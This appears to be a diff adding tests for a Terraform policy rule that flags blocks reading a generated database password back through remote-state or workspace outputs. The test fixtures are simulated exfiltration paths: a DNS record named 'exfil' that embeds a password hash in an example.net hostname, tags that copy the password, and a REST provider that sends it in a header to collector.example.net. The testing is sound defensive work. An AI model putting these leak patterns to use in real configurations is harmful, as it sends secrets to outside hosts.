@@ -208,3 +208,67 @@ describe('a data source, ephemeral resource, check, import or variable block tha
     })).toEqual([{ status: 'pass' }]);
   });
 });
+
+describe('an output of the password read back through the outputs of a state (twelfth review, A12b-6)', () => {
+  /** The rule's verdicts on a stack with outputs and blocks that read outputs back. */
+  function verdictsWith(sections: TerraformBlock, extra: Resources = {}): readonly Verdict[] {
+    const model = buildStackModel({ resource: stack(extra), ...sections });
+    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
+    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, outputs: model.outputs, constructs: [CONSTRUCT] });
+    return Array.isArray(result) ? result : [result as Verdict];
+  }
+  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/reader'), ...block });
+  const SELF = { backend: 'local', config: { path: 'terraform.tfstate' } };
+  const readBack = (address: string, output: string, through: string) => ({
+    status: 'fail',
+    message: `${address} reads ${GENERATOR} through output.${output}, read back by ${through} (a state the checks cannot tell from this stack's), a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
+    address,
+  });
+
+  test('fails every block that reads an output holding it through terraform_remote_state or tfe_outputs, by name, whole or by a computed key', () => {
+    expect(verdictsWith({
+      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true }, hashed: { value: `\${{ h = ${GENERATOR}.bcrypt_hash }}` }, name: { value: 'orders' } },
+      data: {
+        terraform_remote_state: { self: SELF },
+        tfe_outputs: { ws: { organization: 'o', workspace: 'w' } },
+        dns_a_record_set: { exfil: beside({ host: '${data.tfe_outputs.ws.nonsensitive_values.hashed.h}.example.net' }) },
+      },
+    }, {
+      azurerm_resource_group: {
+        tagged: beside({ name: 'rg', location: 'westeurope', tags: { leak: '${data.terraform_remote_state.self.outputs.pw}' } }),
+        whole: beside({ name: 'rg2', location: 'westeurope', tags: { leak: '${jsonencode(data.terraform_remote_state.self.outputs)}' } }),
+        keyed: beside({ name: 'rg3', location: 'westeurope', tags: { leak: '${data.terraform_remote_state.self.outputs[var.which]}' } }),
+        // Another output, or the state's backend settings, hold no password.
+        named: beside({ name: '${data.terraform_remote_state.self.outputs.name}', location: '${data.terraform_remote_state.self.backend}' }),
+      },
+    })).toEqual([
+      readBack('azurerm_resource_group.keyed', 'pw', 'data.terraform_remote_state.self'),
+      readBack('azurerm_resource_group.tagged', 'pw', 'data.terraform_remote_state.self'),
+      readBack('azurerm_resource_group.whole', 'pw', 'data.terraform_remote_state.self'),
+      readBack('data.dns_a_record_set.exfil', 'hashed', 'data.tfe_outputs.ws'),
+    ]);
+  });
+
+  test('fails a provider block that reads it back, shown on the first resource that uses the provider', () => {
+    const terraform = {
+      resource: stack({ restapi_object: { probe: { ...madeAt('stack/probe'), path: '/x', data: '{}' } } }),
+      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true } },
+      data: { terraform_remote_state: { self: SELF } },
+      provider: { restapi: [{ uri: 'https://collector.example.net', headers: { 'X-Key': '${data.terraform_remote_state.self.outputs.pw}' } }] },
+    };
+    const model = buildStackModel(terraform);
+    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
+    expect(rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, outputs: model.outputs, constructs: [CONSTRUCT], providers: providerConfigurations(terraform) })).toEqual([{
+      status: 'fail',
+      message: `provider restapi reads ${GENERATOR} through output.pw, read back by data.terraform_remote_state.self (a state the checks cannot tell from this stack's), a password ${CONSTRUCT} generates, and sends it to whatever it signs in to for restapi_object.probe; no rule of the pack judges where.`,
+      address: 'restapi_object.probe',
+    }]);
+  });
+
+  test('passes an output of it no block reads back, and reads of outputs that do not hold it', () => {
+    expect(verdictsWith({
+      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true }, name: { value: 'orders' } },
+      data: { terraform_remote_state: { self: SELF } },
+    }, { azurerm_resource_group: { named: beside({ name: '${data.terraform_remote_state.self.outputs.name}', location: 'westeurope' }) } })).toEqual([{ status: 'pass' }]);
+  });
+});
